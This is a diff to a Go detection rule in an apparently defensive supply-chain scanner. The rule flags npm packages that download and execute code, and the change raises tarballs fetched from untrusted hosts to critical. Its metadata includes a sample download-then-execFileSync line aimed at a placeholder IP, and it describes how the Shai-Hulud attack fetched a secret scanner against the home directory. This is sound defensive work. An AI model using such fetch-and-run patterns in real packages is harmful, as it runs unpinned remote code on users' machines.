@@ -33,7 +33,7 @@ func (DownloadExecute) Meta() analyze.Meta {
 			"home directory (a secret scanner: Shai-Hulud fetched TruffleHog and pointed it at $HOME). A request's URL with run-time parts " +
 			"counts by its constant parts: …/v2/${target}.node names a native module. Requiring a computed path in install-time code that " +
 			"downloads and writes counts as running what it fetched, and a registry-shaped tarball (…/-/name-1.0.0.tgz) required that way from a " +
-			"host that is not one of your registries is high, critical at install: a second stage no lockfile pins.",
+			"host that is not one of your registries is critical: a second stage no lockfile pins.",
 		Remediation:     "Check the download URL. Prefer packages that ship platform binaries as optional dependencies.",
 		Example:         `download("http://203.0.113.9/app.exe", tmp); execFileSync(tmp)`,
 		DefaultSeverity: finding.SeverityMedium, Signal: analyze.SigRemoteExec, Needs: analyze.NeedCode,
@@ -104,7 +104,7 @@ func (DownloadExecute) Check(ctx context.Context, t *analyze.Target, r analyze.R
 		// In a bundle, documentation links in error messages are not what
 		// it downloads: only URLs a request is given, or that name a
 		// program or an archive, count there.
-		bundle := f.Facts.Size > 512<<10
+		bundle := f.Facts.Bundle()
 		var requested map[string]bool
 		if bundle {
 			requested = map[string]bool{}
@@ -151,14 +151,9 @@ func (DownloadExecute) Check(ctx context.Context, t *analyze.Target, r analyze.R
 					}
 				case npmTarball(u) && loads && !rulekit.TrustedFor(t, h):
 					// a package from a "registry" that is none of yours,
-					// unpacked and required: no lockfile or integrity
-					// check covers it
-					if sev < finding.SeverityHigh {
-						sev, why = finding.SeverityHigh, "fetches package tarball "+u+" from a host that is not a registry of yours and requires it"
-					}
-					if f.Role == analyze.RoleInstall {
-						sev = finding.SeverityCritical
-					}
+					// unpacked and required at install: no lockfile or
+					// integrity check covers it
+					sev, why = finding.SeverityCritical, "fetches package tarball "+u+" from a host that is not a registry of yours and requires it"
 				case !rulekit.TrustedFor(t, h) && sev < finding.SeverityMedium:
 					sev, why = finding.SeverityMedium, "fetches from "+h
 				}
@@ -194,7 +189,7 @@ func (DownloadExecute) Check(ctx context.Context, t *analyze.Target, r analyze.R
 				sev = finding.SeverityCritical
 			}
 		}
-		if f.Facts.Size > 512<<10 {
+		if f.Facts.Bundle() {
 			// a bundle: the download, the write and the spawn need not be related
 			sev = min(sev, finding.SeverityMedium)
 			if urls == 0 || sev < finding.SeverityMedium {
